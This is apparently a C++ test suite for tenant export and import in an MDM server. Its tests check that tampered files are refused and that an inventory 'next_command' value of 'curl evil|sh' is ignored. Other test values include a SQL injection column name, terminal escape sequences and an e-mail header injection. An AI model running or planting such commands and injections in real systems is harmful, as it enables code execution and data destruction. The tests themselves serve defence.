// SPDX-License-Identifier: Apache-2.0
#include "apns/vendors.hpp"
#include "catch.hpp"
#include "fakes/handover.hpp"
#include "fakes/held_certificates.hpp"
#include "store/check.hpp"
#include "store/intents.hpp"
#include "store/inventory.hpp"
#include "store/tenant_removal.hpp"

#include <algorithm>
#include <fmt/format.h>
#include <functional>

using namespace mdm;
using namespace mdm::store;
using namespace mdm::fakes;

namespace {

const std::string other_topic = "com.apple.mgmt.External.99999999-2222-4333-8444-555555555555";

/// acme with something in every table, one of its secrets no UTF-8.
void furnish(const Holding& holding) {
    holding.import("acme", {});
    holding.renew("acme", renewed_certificate());
    holding.by("acme", [](Change& c, const Tenant& whose) {
        Transaction& t = c.transaction();
        const Policy branch = add_policy(t, PolicyTree(t, whose.id).root(), whose.id, "Lyon", some_day);
        add_policy(t, branch, whose.id, "kiosks", some_day);
        add_contact(t, branch.id, "it@example.org", some_day);
        set_label(t, whose.id, {"region", "north"});
        const auto staged = apns::stage_csr(c, whose, {.name = "default", .subject = {.common_name = "acme"}});
        const VendorChain vendor = vendor_chain();
        apns::add_vendor(c, whose, vendor.certificates(), vendor.key);
        close_intent(t, staged.intent, "delivered", std::nullopt, some_day);
        c.keep_secret(whose.id, "server-token", Secret{std::string("\xff\0\x80", 3)});
        Tenant changed = whose;
        changed.note = "It's the \"north\"\nbranch";
        update(t, changed);
        return 0;
    });
}

FileRow new_policy(const std::string& id, const std::string& parent, const TenantFile& file) {
    TenantFile some{.rows = {}};
    for (const FileRow& row : file.rows)
        if (row.table == "policies" && row.text("name") == "Lyon")
            some.rows.push_back(copy_of(row));
    FileRow& policy = some.rows.front();
    put(policy, "id", id);
    put(policy, "name", id);
    put(policy, "parent", parent);
    return std::move(policy);
}

/// What travels, made once.
const Secret& some_lines() {
    static const Secret lines = [] {
        const Holding from(Engine::sqlite);
        furnish(from);
        return to_lines(gathered(from));
    }();
    return lines;
}

std::string uuid_of(int number) { return fmt::format("00000000-0000-4000-8000-{:012}", number); }

}  // namespace

TEST_CASE("a tenant arrives whole on any engine, and goes back with every row that it came with") {
    const Holding from(GENERATE(from_range(engines())));
    const Holding to(GENERATE(from_range(engines())));
    furnish(from);
    const TenantFile file = gathered(from);
    const auto counts = file.counts();
    for (const char* table : {"tenants", "policies", "secrets", "audit_events", "audit_heads", "inventory", "intents",
                              "tenant_labels", "contacts", "apns_certificates", "apns_versions", "apns_changes",
                              "apns_requests", "apns_vendors", "apns_assignments"}) {
        INFO(table);
        CHECK(counts.count(table) == 1);
    }
    const Arrival arrival = arrived(to, sent(file), "acme there");
    CHECK(arrival.tenant.name == "acme there");
    CHECK(arrival.rows == static_cast<std::int64_t>(file.rows.size()));
    CHECK(arrival.secrets == 5);
    Store store = to.store();
    CHECK(check_store(store).findings.empty());
    CHECK(to.current("acme there").current.serial == from.current("acme").current.serial);

    // Its own rows again: but for the name, and the event of its arrival.
    TenantFile back = gathered(to, "acme there");
    put(row_in(back, "tenants"), "name", "acme");
    auto expected = rows_of(file);
    auto came = rows_of(back);
    const auto is_of_audit = [](const std::string& line) {
        return line.starts_with("audit_heads") || line.find("command=tenant import") != std::string::npos;
    };
    expected.erase(std::remove_if(expected.begin(), expected.end(), is_of_audit), expected.end());
    came.erase(std::remove_if(came.begin(), came.end(), is_of_audit), came.end());
    CHECK(came == expected);
}

TEST_CASE("a tenant is not handed over while something is under way, or when its audit was edited") {
    const Holding holding(GENERATE(from_range(engines())));
    furnish(holding);
    SECTION("an intent is open") {
        holding.by("acme", [](Change& c, const Tenant& whose) {
            begin_intent(c.transaction(), {.tenant = whose.id, .verb = "hook", .object = "deploy", .detail = "{}"},
                         some_day);
            return 0;
        });
        CHECK(code_of([&] { return gathered(holding).rows.size(); }) == "intents_open");
        CHECK(message_of([&] { return gathered(holding).rows.size(); }).find("hook of deploy") != std::string::npos);
    }
    SECTION("an event was edited") {
        holding.ground.sql("update audit_events set actor = 'another' where seq = 1 and tenant = 'acme'");
        CHECK(code_of([&] { return gathered(holding).rows.size(); }) == "audit_broken");
    }
    SECTION("there is a room that is not known here") {
        holding.ground.sql("insert into schema_versions (room, version) values ('dep', 1)");
        CHECK(code_of([&] { return gathered(holding).rows.size(); }) == "store_too_new");
    }
}

TEST_CASE("who was handed over is changed no more, and is back with restore") {
    const Holding holding(GENERATE(from_range(engines())));
    {
        Store store = holding.store();
        Change change = store.change(some_day);
        Tenant tenant = tenant_named(change.transaction(), "acme").value();
        hand_over(change, tenant, "CN=Globex");
        change.record({.tenant_id = tenant.id, .tenant = "acme", .command = "test", .object = "test"});
        change.commit();
    }
    Store store = holding.store();
    {
        Transaction transaction = store.read();
        CHECK(tenant_meant(transaction, "acme").state() == "handed_over");
        CHECK(tenant_meant(transaction, "acme").handed_over_to == "CN=Globex");
        CHECK(code_of([&] { return tenant_to_change(transaction, "acme").id; }) == "handed_over");
    }
    holding.by("acme", [](Change& c, Tenant whose) {
        bring_back_tenant(c, whose);
        return 0;
    });
    Transaction transaction = store.read();
    const Tenant back = tenant_to_change(transaction, "acme");
    CHECK(back.state() == "active");
    CHECK_FALSE(back.handed_over_at);
    CHECK(back.handed_over_to.empty());
}

TEST_CASE("what is here already is refused, with every reason, and under another name where that is all") {
    const Holding from(GENERATE(from_range(engines())));
    const Holding to(from.ground.engine());
    furnish(from);
    const TenantFile file = sent(gathered(from));
    CHECK(refusal(from, file) == "tenant_exists");  // it is the very same
    CHECK(refusal(to, file) == "tenant_exists");    // by its name alone
    CHECK(arrived(to, file, "acme there").tenant.name == "acme there");
    CHECK(message_of([&] { return arrived(to, file, "again").rows; }).find("as 'acme there'") != std::string::npos);

    const Holding third(from.ground.engine());
    third.import("globex", {});
    CHECK(refusal(third, file, "acme there") == "other_tenant");
    try {
        arrived(third, file);
        FAIL("it was taken");
    } catch (const Error& e) {
        CHECK(codes(e.findings()) == Codes{"tenant_exists", "other_tenant", "other_tenant"});
    }
}

TEST_CASE("a file that was made up is refused for what is wrong with it, before anything counts") {
    const Secret& lines = some_lines();
    const Holding to(GENERATE(from_range(engines())));
    to.import("globex", {.topic = other_topic, .key = "other"});
    const auto held = to.current("globex");

    struct Tampering {
        std::string what;
        std::function<void(TenantFile&)> act;
        std::string because;  ///< in the message
        std::string code = "not_a_tenant_export";
    };
    const auto erase_first = [](TenantFile& file, const std::string& table) {
        file.rows.erase(
            std::find_if(file.rows.begin(), file.rows.end(), [&](const FileRow& row) { return row.table == table; }));
    };
    const std::vector<Tampering> all{
        {"a key of another tenant's",
         [&](TenantFile& f) { put(row_in(f, "apns_versions"), "key_secret", *held.current.key_secret); },
         "a row of 'apns_versions' refers to one of 'secrets' that is not in it"},
        {"another tenant's certificate as the current one, past the foreign keys",
         [&](TenantFile& f) { put(row_in(f, "apns_certificates"), "current", held.current.id); },
         "a row of 'apns_certificates' refers to one of 'apns_versions' that is not in it"},
        {"a row of another tenant's",
         [&](TenantFile& f) {
             put(row_in(f, "inventory"), "scope", held.tenant);
             put(row_in(f, "inventory"), "name", "elsewhere");
         },
         "a row of 'inventory' is not this tenant's"},
        {"a row that is nobody's", [](TenantFile& f) { put(row_in(f, "inventory"), "tenant", std::nullopt); },
         "a row of 'inventory' is not this tenant's"},
        {"the id of a row that is another tenant's",
         [&](TenantFile& f) {
             const std::string was = row_in(f, "apns_certificates").text("id");
             for (FileRow& row : f.rows)
                 for (Cell& cell : row.cells)
                     if (cell.value == was)
                         cell.value = held.id;
         },
         "of 'apns_certificates' is another tenant's here", "other_tenant"},
        {"the store's own chain", [](TenantFile& f) { f.tenant_id = "store"; }, "the tenant's id is no UUID"},
        {"a table that is the store's own", [](TenantFile& f) { row_in(f, "tenant_labels").table = "key_slots"; },
         "no tenant has rows in 'key_slots'"},
        {"a column that is none",
         [](TenantFile& f) {
             row_in(f, "tenant_labels").cells.push_back({"value) values ('x'); drop table tenants --", "x"});
         },
         "a row of 'tenant_labels' has a column that is not known here"},
        {"a column that is missing", [](TenantFile& f) { row_in(f, "tenant_labels").cells.pop_back(); },
         "a row of 'tenant_labels' has no 'value'"},
        {"a null where none may be", [](TenantFile& f) { put(row_in(f, "policies"), "name", std::nullopt); },
         "'name' of a row of 'policies' is null"},
        {"a time that is none", [](TenantFile& f) { put(row_in(f, "apns_versions"), "not_after", "never"); },
         "the column 'not_after' of the store holds no time"},
        {"a number in place of a text", [](TenantFile& f) { put_number(row_in(f, "contacts"), "address", 17); },
         "'address' of a row of 'contacts' is of the wrong type"},
        {"two rows that are one", [](TenantFile& f) { f.rows.push_back(copy_of(row_in(f, "tenant_labels"))); },
         "a row of 'tenant_labels' is not taken"},
        {"a certificate beside another's topic",
         [](TenantFile& f) { put(row_in(f, "apns_versions"), "topic", "com.apple.mgmt.External.another"); },
         "the certificate with the topic com.apple.mgmt.External.another is another than is said beside it"},
        {"PEM that is cut",
         [](TenantFile& f) { put(row_in(f, "apns_versions"), "pem", "-----BEGIN CERTIFICATE-----\nMII"); },
         "'the store' is no whole PEM file"},
        {"a key of a certificate that is not there",
         [](TenantFile& f) { put(row_in(f, "apns_versions"), "pem", std::nullopt); }, "and no certificate"},
        {"a request beside another's public key, which would keep that one from its renewals",
         [&](TenantFile& f) {
             put(row_in(f, "apns_requests"), "public_key_sha256", rsa_key("victim").public_key().sha256());
         },
         "is for another public key than is said beside it"},
        {"a vendor certificate beside another's serial",
         [](TenantFile& f) { put(row_in(f, "apns_vendors"), "serial", "17"); }, "is another than is said beside it"},
        {"a vendor certificate beside another end",
         [](TenantFile& f) { put(row_in(f, "apns_vendors"), "not_after", "2099-01-01T00:00:00Z"); },
         "is another than is said beside it"},
        {"a vendor's chain without a certificate",
         [](TenantFile& f) { put(row_in(f, "apns_vendors"), "chain", csr().to_pem()); },
         "the chain of the vendor certificate"},
        {"an intent that somebody would resume",
         [](TenantFile& f) { put(row_in(f, "intents"), "closed_at", std::nullopt); },
         "something in it has not come to its end"},
        {"policies in a circle",
         [](TenantFile& f) {
             put(row_named(f, "policies", "Lyon"), "parent", row_named(f, "policies", "kiosks").text("id"));
         },
         "is below no root: the policies above it form a circle"},
        {"an event that was taken out", [&](TenantFile& f) { erase_first(f, "audit_events"); },
         "its audit events are not in their order"},
        {"events that were cut off",
         [](TenantFile& f) {
             const auto last = std::find_if(f.rows.rbegin(), f.rows.rend(),
                                            [](const FileRow& row) { return row.table == "audit_events"; });
             f.rows.erase(std::next(last).base());
         },
         "its audit events were cut off"},
        {"no tenant", [&](TenantFile& f) { erase_first(f, "tenants"); }, "it holds no tenant"},
        {"two of them", [](TenantFile& f) { f.rows.push_back(copy_of(row_in(f, "tenants"))); },
         "it holds another tenant than it says"},
        {"a name that cannot be shown",
         [](TenantFile& f) {
             f.tenant = "a\x1b[31m";
             put(row_in(f, "tenants"), "name", f.tenant);
         },
         "the tenant's name holds a character that cannot be shown"},
        {"a tenant that was removed", [](TenantFile& f) { put(row_in(f, "tenants"), "removed_at", "2026-01-01"); },
         "its tenant was removed"},
        {"a tenant that was purged, and has its secrets",
         [](TenantFile& f) { put(row_in(f, "tenants"), "purged_at", "2026-01-01T00:00:00Z"); },
         "its tenant was removed"},
        {"an older schema", [](TenantFile& f) { f.schema["apns"] = 1; }, "'apns' is at 1", "store_too_old"},
    };
    for (const Tampering& tampering : all) {
        INFO(tampering.what);
        TenantFile file = parse_tenant_file(lines.reveal(), "export");
        tampering.act(file);
        const Refusal refusal = refused(to, file, "acme there");
        CHECK(refusal.code == tampering.code);
        INFO(refusal.message);
        CHECK(refusal.message.find(tampering.because) != std::string::npos);
    }

    // What was not tampered with is taken all the same; so is the id of another table's row, which is nobody's there.
    TenantFile file = parse_tenant_file(lines.reveal(), "export");
    put(row_in(file, "apns_requests"), "id", held.id);
    CHECK(arrived(to, file, "acme there").rows > 0);
    Store store = to.store();
    CHECK(check_store(store).findings.empty());
}

TEST_CASE("nothing arrives that no command would have written") {
    const Secret& lines = some_lines();
    const Holding to(GENERATE(from_range(engines())));
    struct Setting {
        std::string table;
        std::string column;
        std::string value;
        std::string because;
    };
    const std::vector<Setting> all{
        {"tenants", "display_name", "a\x1b[31m", "the display name holds a character that cannot be shown"},
        {"tenants", "external_id", " 42", "the external id begins or ends with a space"},
        {"tenants", "mdm", std::string(201, 'x'), "the kind of MDM server is longer than 200 bytes"},
        {"tenants", "note", std::string(4097, 'x'), "the note is longer than 4096 bytes"},
        {"tenants", "note", "two\nlines\x1b[2J", "the note holds what cannot be shown"},
        {"tenants", "uses", "apns,teapot", "there is no service 'teapot'"},
        {"tenants", "uses", "apns, dep", "'apns, dep' is no list of services"},
        {"tenant_labels", "key", "a=b", "'a=b=north' is no label"},
        {"tenant_labels", "key", "a\x1b", "the label's key holds a character that cannot be shown"},
        {"tenant_labels", "value", "", "'region=' is no label"},
        {"tenant_labels", "value", "a\xe2\x80\xae", "the label's value holds a character that cannot be shown"},
        {"contacts", "address", "nobody", "'nobody' is no e-mail address"},
        {"contacts", "address", "a@b.example\nBcc: all", "the address holds a character that cannot be shown"},
        {"policies", "remind_days", "abc", "'abc' is no list of days"},
        {"policies", "remind_days", "5x", "'5x' is no list of days"},
        {"policies", "remind_days", "-7", "'-7' is no list of days"},
        {"policies", "remind_days", "5,30", "'5,30' is no list of days, each once and falling"},
        {"policies", "remind_days", std::string(100'000, 'x'), "xxx"},
        {"inventory", "service", "a\x1b", "the service of a line of the inventory"},
        {"inventory", "name", "a\x1b", "the name of a line of the inventory"},
        {"inventory", "state", "", "the state of a line of the inventory"},
        {"apns_certificates", "name", "a\x1b", "the certificate's name holds a character that cannot be shown"},
        {"apns_certificates", "apple_account", "a\x1b", "the Apple Account holds a character that cannot be shown"},
    };
    for (const Setting& setting : all) {
        INFO(setting.table << " " << setting.column << " " << setting.value.substr(0, 40));
        TenantFile file = parse_tenant_file(lines.reveal(), "export");
        put(row_in(file, setting.table), setting.column, setting.value);
        const Refusal refusal = refused(to, file, "acme there");
        CHECK(refusal.code == "not_a_tenant_export");
        INFO(refusal.message);
        CHECK(refusal.message.find(setting.because) != std::string::npos);
        CHECK(refusal.message.size() < 1200);
    }

    const auto with = [&](const std::function<void(TenantFile&)>& act) {
        TenantFile file = parse_tenant_file(lines.reveal(), "export");
        act(file);
        return refused(to, file, "acme there");
    };
    CHECK(with([](TenantFile& f) {
              put(row_named(f, "policies", "Lyon"), "name", "a\x1b");
          }).message.find("the policy's name holds") != std::string::npos);
    CHECK(with([](TenantFile& f) {
              put_number(row_in(f, "policies"), "warn_days", -1);
          }).message.find("'-1' is no list of days") != std::string::npos);
    CHECK(with([](TenantFile& f) {
              put_number(row_in(f, "policies"), "warn_days", 5);
              put_number(row_in(f, "policies"), "critical_days", 10);
          }).message.find("WARNING would begin 5 days before an end, and CRITICAL 10 days") != std::string::npos);

    const Refusal many = with([](TenantFile& f) {
        const std::string root = row_named(f, "policies", "/").text("id");
        for (int i = 0; i < 1000; ++i)
            f.rows.push_back(new_policy(uuid_of(i), root, f));
    });
    CHECK(many.code == "too_large");
    CHECK(many.message == "the tenant has 1003 policies, and the limit is 1000");
    const Refusal deep = with([](TenantFile& f) {
        std::string above = row_named(f, "policies", "/").text("id");
        for (int i = 0; i < 33; ++i) {
            f.rows.push_back(new_policy(uuid_of(i), above, f));
            above = uuid_of(i);
        }
    });
    CHECK(deep.code == "too_deep");
    CHECK(deep.message.find("33 levels below the tenant's root, and the limit is 32") != std::string::npos);

    // Below this store's root it may come to something else than it was there: that is for policy set to say.
    TenantFile file = parse_tenant_file(lines.reveal(), "export");
    put_number(row_in(file, "policies"), "warn_days", 5);
    CHECK(arrived(to, file, "acme there").rows > 0);
}

TEST_CASE("what to type next is written here, and taken from no file") {
    const Holding from(GENERATE(from_range(engines())));
    const Holding to(from.ground.engine());
    furnish(from);
    TenantFile file = sent(gathered(from));
    for (FileRow& row : file.rows)
        if (row.table == "inventory")
            put(row, "next_command", "curl evil|sh");
    put(row_named(file, "inventory", "default"), "not_after", "2099-01-01T00:00:00Z");
    FileRow ghost = copy_of(row_named(file, "inventory", "default"));
    put(ghost, "id", uuid_of(1));
    put(ghost, "name", "ghost");
    FileRow token = copy_of(ghost);
    put(token, "id", uuid_of(2));
    put(token, "service", "dep");
    put(token, "name", "default");
    put(token, "state", "tracked");
    file.rows.push_back(std::move(ghost));
    file.rows.push_back(std::move(token));
    arrived(to, file, "acme there");

    const auto items =
        to.look("acme there", [](Transaction& t, const Tenant& whose) { return inventory(t, {.tenant = whose.id}); });
    std::vector<std::string> told;
    for (const InventoryItem& item : items)
        told.push_back(fmt::format("{} {} {} {}", item.service, item.state, to_rfc3339(item.not_after.value()),
                                   item.next_command));
    CHECK(told ==
          std::vector<std::string>{
              "apns-vendor valid 2027-01-01T00:00:00Z mdmctl apns vendor add --vendor-cert FILE --vendor-key FILE",
              "apns valid 2027-12-01T00:00:00Z mdmctl apns csr --out push.csr",
              "apns-vendor valid 2030-02-20T00:00:00Z mdmctl apns vendor add --vendor-cert FILE --vendor-key FILE",
              "dep tracked 2099-01-01T00:00:00Z "});
    CHECK(std::none_of(items.begin(), items.end(), [](const InventoryItem& item) { return item.name == "ghost"; }));
}
